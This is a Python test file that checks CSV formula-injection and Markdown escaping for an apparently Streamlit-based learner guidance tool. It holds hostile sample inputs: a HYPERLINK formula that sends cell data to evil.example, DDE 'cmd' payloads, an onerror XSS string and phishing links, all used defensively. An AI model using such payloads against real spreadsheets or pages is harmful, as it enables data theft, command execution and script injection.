"""Learner and catalogue text escaped for the format it is written into."""
from __future__ import annotations

import csv
import html
import io
import re

import pytest

from guidance import Conversation
from guidance.insights import export_csv
from guidance.journal import QuestionLog
from guidance.models import Pathway, PathwayStep
from guidance.pathways import plan_csv
from knowledge_base.escaping import csv_cell, md

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=1+1\n"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "-12.5", "450", "data analyst", "a=b", "I'm 45 - and tired", ""])
def test_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert csv_cell(text) == text


def test_the_staff_export_carries_no_formula_a_learner_typed(sample_assistant, tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite3", retention_days=30)
    question = '=HYPERLINK("http://evil.example","click") welding'
    turn = log.record(centre="c", question=question, reply=sample_assistant.reply(question, Conversation()))
    log.set_feedback(turn, -1, "+SUM(1+1)*cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(export_csv(log.turns("c")))))
    columns = rows[0]
    question_at, comment_at = columns.index("question"), columns.index("comment")
    assert rows[1][question_at] == "'" + question and rows[1][comment_at] == "'+SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell[:1] in "=+-@" for row in rows[1:] for cell in row if cell not in ("-1", ""))


def test_a_plan_from_a_hostile_catalogue_downloads_as_text():
    step = PathwayStep(id="X-1", title="=cmd|' /C calc'!A0", status="needed", credits=3, cost=-0.0,
                       prerequisites=["+1+1"])
    pathway = Pathway(target="X-CERT", title="Certificate", steps=[step])
    rows = list(csv.DictReader(io.StringIO(plan_csv(pathway))))
    assert rows[0]["title"] == "'=cmd|' /C calc'!A0" and rows[0]["prerequisites"] == "'+1+1"


# What Streamlit's Markdown renderer (1.67, StreamlitMarkdown.*.js) searches the text for after
# the parser resolved its escapes, so a backslash cannot stop them: GFM's bare addresses and
# emails (mdast-util-gfm-autolink-literal), emoji shortcodes (remark-emoji), the ``:material/``
# icons it rewrites in the raw source, colour and other text directives (remark-directive), and
# inline maths. The browser test checks the same in Chromium.
STREAMLIT_FINDS = {
    "bare address": re.compile(r"(?i)(https?://|www(?=\.))[-.\w]+"),
    "email": re.compile(r"[-.\w+]+@[-\w]+(?:\.[-\w]+)+"),
    "emoji or icon": re.compile(r":[\w+-][\w+-]*:|:material/"),
    "directive": re.compile(r"(?<!\\):[A-Za-z][\w-]*\["),
    "maths": re.compile(r"(?<![\\$])\$(?![\s$])[^$\n]*?[^\s$\\]\$"),
}
CONSTRUCTS = {
    "image": "![x](http://127.0.0.1:9/p.png)", "link": "[click](https://phish.example)",
    "reference": "[a]: https://phish.example", "angle link": "<https://phish.example>",
    "address": "https://phish.example", "upper-case address": "HTTPS://PHISH.EXAMPLE",
    "www": "www.phish.example", "www after punctuation": "(_www.phish.example)", "email": "jo@phish.example",
    "mailto": "mailto:jo@phish.example", "html": "<img src=x onerror=alert(1)>", "icon": ":material/warning:",
    "colour": ":red[alarm]", "background": ":red-background[alarm]", "emoji": ":smile:", "maths": "$x^2$",
    "emphasis": "**bold** _it_ ~~gone~~ `code`", "entity": "&lt;b&gt;", "table": "a | b",
    "heading": "# heading", "quote": "> quoted", "list": "- item", "numbered list": "1. item",
}


@pytest.mark.parametrize("construct", CONSTRUCTS)
def test_md_leaves_nothing_streamlit_would_render(construct):
    from markdown_it import MarkdownIt

    value = CONSTRUCTS[construct]
    escaped = md(value)
    found = {name for name, pattern in STREAMLIT_FINDS.items() if pattern.search(escaped)}
    assert not found, (escaped, found)
    rendered = MarkdownIt("commonmark").enable(["strikethrough", "table"]).render(escaped)
    assert re.fullmatch(r"<p>[^<]*</p>\n", rendered), rendered  # one paragraph of plain text
    shown = html.unescape(rendered[3:-5]).replace("\u2060", "")
    assert shown == value


def test_md_keeps_ordinary_text_as_it_is():
    assert md("Welding Basics, Level 1 (Ontario) 3.5 h") == "Welding Basics, Level 1 (Ontario) 3.5 h"
    assert md("Note : 10 h") == "Note : 10 h" and md(None) == "" and md("two\n\nlines") == "two lines"
